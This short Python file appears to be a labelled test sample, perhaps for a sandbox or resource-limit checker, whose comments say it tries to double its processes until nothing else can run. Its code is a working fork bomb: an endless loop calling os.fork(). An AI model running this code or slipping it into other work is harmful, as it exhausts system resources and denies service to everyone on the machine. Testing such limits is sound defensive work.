# Tries: to double its processes until nothing else can run.
# Expect: double any, largest any
# %%
import os

while True:
    os.fork()
